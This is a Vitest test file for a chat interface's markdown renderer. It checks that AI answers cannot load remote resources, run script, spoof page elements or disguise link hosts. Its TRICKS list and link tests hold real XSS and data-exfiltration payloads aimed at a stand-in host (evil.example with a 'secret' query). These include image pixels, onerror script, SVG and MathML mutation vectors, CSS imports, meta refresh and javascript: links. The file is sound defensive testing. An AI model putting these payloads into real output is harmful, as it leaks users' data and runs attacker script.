// @vitest-environment jsdom
import { expect, test } from "vitest";
import { Sources } from "../../static/src/chat/sources";
import { Blocks } from "../../static/src/markdown/blocks";
import { mend } from "../../static/src/markdown/mend";
import { renderMarkdown, renderTokens } from "../../static/src/markdown/render";
import { marked } from "../../static/src/markdown/syntax";

function rendered(text: string): HTMLElement {
  const place = document.createElement("div");
  place.append(renderMarkdown(text));
  return place;
}

const PASSAGE = {
  number: 1,
  title: "Handbook",
  heading: "Handbook > Leave > Annual leave",
  page: 14,
  url: "/t/acme/documents/1/?passage=2",
  snippet: "25 days",
};

const HIDDEN = "https://evil.example/x.png?q=secret";

const TRICKS = [
  `![pixel](${HIDDEN})`,
  `![pixel](<${HIDDEN}> "title")`,
  `![pixel][1]\n\n[1]: ${HIDDEN}`,
  `![pixel][ref]\n\n[ref]: ${HIDDEN}`,
  `![ref][]\n\n[ref]: ${HIDDEN}`,
  `![ref]\n\n[ref]: <${HIDDEN}> 'title'`,
  `[![pixel](${HIDDEN})](${HIDDEN})`,
  `| a |\n|---|\n| ![pixel](${HIDDEN}) |`,
  "![pixel](data:image/svg+xml;base64,PHN2Zy8+)",
  "![pixel](//evil.example/x.png)",
  "![pixel](blob:https://evil.example/1)",
  `<img src="${HIDDEN}">`,
  `<img srcset="${HIDDEN} 2x" src=x onerror=alert(1)>`,
  `<input type=image src="${HIDDEN}">`,
  `<picture><source srcset='${HIDDEN}'></picture>`,
  `<video poster='${HIDDEN}'></video>`,
  `<audio autoplay src='${HIDDEN}'></audio>`,
  `<object data='${HIDDEN}'></object><embed src='${HIDDEN}'>`,
  `<svg><image href='${HIDDEN}'></image></svg>`,
  `<svg><use href='${HIDDEN}#x'></use></svg>`,
  `<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><animate attributeName=href values='${HIDDEN}'></svg>`,
  `<math><mtext><table><mglyph><style><img src='${HIDDEN}'></style></mglyph></table></mtext></math>`,
  `<math href='${HIDDEN}'><maction actiontype=statusline xlink:href='${HIDDEN}'>x</maction></math>`,
  `<style>p { background: url(${HIDDEN}) }</style>`,
  `<style>@import '${HIDDEN}';</style>`,
  `<p style="background: url(${HIDDEN})">x</p>`,
  `<table background="${HIDDEN}"><tr><td background="${HIDDEN}">x</table>`,
  `<body background="${HIDDEN}">`,
  "<iframe src='https://evil.example' srcdoc='<img src=x>'></iframe>",
  "<frameset><frame src='https://evil.example'></frameset>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<link rel=dns-prefetch href='//secret.evil.example'>",
  "<link rel=prefetch href='https://evil.example/x'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<script>alert(1)</script>",
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example"]}]}</script>',
  "<form action='https://evil.example'><input name=q></form>",
  "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
  "<div hx-get='https://evil.example' hx-trigger='load' data-hx-get='https://evil.example'>x</div>",
  `~~~html\n<img src="${HIDDEN}">\n~~~`,
];

test.each(TRICKS)("nothing loads, styles or runs by itself: %s", (text) => {
  expectHarmless(rendered(text));
});

test("nor does any beginning of it while it streams", () => {
  const whole = TRICKS.join("\n\n");
  const blocks = new Blocks(marked);
  const place = document.createElement("div");

  for (let at = 0; at < whole.length; at += 23) {
    const { settled } = blocks.push(whole.slice(at, at + 23));
    place.replaceChildren(renderTokens(settled), renderTokens(blocks.lex(mend(blocks.tailText))));
    expectHarmless(place);
  }
}, 30_000);

function expectHarmless(place: HTMLElement): void {
  const allowed = new Set("A SPAN P STRONG EM CODE PRE FIGURE FIGCAPTION BUTTON DIV TABLE THEAD TBODY TR TH TD".split(" "));
  expect([...place.querySelectorAll("*")].map((node) => node.tagName).filter((name) => !allowed.has(name))).toEqual([]);
  const names = [...place.querySelectorAll("*")].flatMap((node) => node.getAttributeNames());
  const harmless = new Set("href target rel title class data-cite data-language data-copy-code type tabindex".split(" "));
  expect(names.filter((name) => !harmless.has(name))).toEqual([]);
}

test.each([
  [`![a chart](${HIDDEN})`, "a chart (evil.example)"],
  [`![](${HIDDEN})`, HIDDEN],
  [`![a chart][r]\n\n[r]: ${HIDDEN}`, "a chart (evil.example)"],
])("an image is a link that says where it leads: %s", (text, shown) => {
  const link = rendered(text).querySelector("a");

  expect(link?.getAttribute("href")).toBe(HIDDEN);
  expect(link?.textContent).toBe(shown);
});

test.each([
  ["[docs](https://example.com/a)", "docs (example.com)"],
  ["https://example.com/a", "https://example.com/a"],
  ["[example.com](https://example.com/a)", "example.com"],
  ["[https://bank.example](https://evil.example/)", "https://bank.example (evil.example)"],
  ["[bank](https://bank.example@evil.example/)", "bank (evil.example)"],
  ["[bank](https://b\u0430nk.example/)", "bank (xn--bnk-6cd.example)"],
  ["[write](mailto:a@example.com?body=secret)", "write (a@example.com)"],
])("a link shows its host: %s", (text, shown) => {
  expect(rendered(text).querySelector("a")?.textContent).toBe(shown);
});

test("an answer can't dress its text up as a part of the page", () => {
  const place = rendered('<span class="failure" id="x" name="y">Sign in again</span> <button>Stop</button>');

  expect(place.querySelectorAll("[id], [name], button, .failure").length).toBe(0);
});

test("a browser is told to look no hosts up before a click", () => {
  expect(document.head.querySelector<HTMLMetaElement>("meta[http-equiv=x-dns-prefetch-control]")?.content).toBe("off");
});

test("a link opens apart and gives nothing away", () => {
  const link = rendered("[docs](https://example.com/a)").querySelector("a");

  expect(link?.getAttribute("href")).toBe("https://example.com/a");
  expect(link?.rel).toBe("noopener noreferrer nofollow");
  expect(link?.target).toBe("_blank");
});

test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "/t/acme/delete/", "//evil.example", "java\nscript:x"])(
  "a link to %j leads nowhere",
  (href) => {
    expect(rendered(`[x](${href})`).querySelector("a[href]")).toBe(null);
  },
);

test("a mark with a passage becomes a chip, one without stays text, one in code is code", () => {
  const place = rendered("Yes [1], and [7]. `list[1]` [1](https://example.com)");
  const sources = new Sources();
  sources.learn([PASSAGE]);

  sources.markUp(place);

  const chips = [...place.querySelectorAll("a[data-source]")];
  expect(chips.map((chip) => chip.getAttribute("href"))).toEqual([PASSAGE.url]);
  expect(chips[0]?.getAttribute("aria-label")).toBe("Source 1: Handbook, Leave › Annual leave, page 14");
  expect(place.textContent?.trim()).toBe("Yes 1, and [7]. list[1] 1 (example.com)");
});

test("a passage that was given but not cited in the end is text again", () => {
  const place = rendered("Yes [1].");
  const sources = new Sources();
  sources.learn([PASSAGE]);
  sources.markUp(place);

  sources.unmark(place);
  sources.settle([]);
  sources.markUp(place);

  expect(place.textContent?.trim()).toBe("Yes [1].");
});

test("several numbers in one mark are several chips", () => {
  const place = rendered("Both [1, 2].");
  const sources = new Sources();
  sources.learn([PASSAGE, { ...PASSAGE, number: 2 }]);

  sources.markUp(place);

  expect([...place.querySelectorAll("a[data-source]")].map((chip) => chip.textContent)).toEqual(["1", "2"]);
});

test("a passage's link never leaves this site", () => {
  const place = rendered("[1]");
  const sources = new Sources();
  sources.learn([{ ...PASSAGE, url: "https://evil.example/" }]);

  sources.markUp(place);

  expect(place.querySelector("a")?.getAttribute("href")).toBe("#");
});

test("a list of sources at the end is not taken for link definitions", () => {
  expect(rendered("[1]: Handbook").textContent).toContain("[1]: Handbook");
});
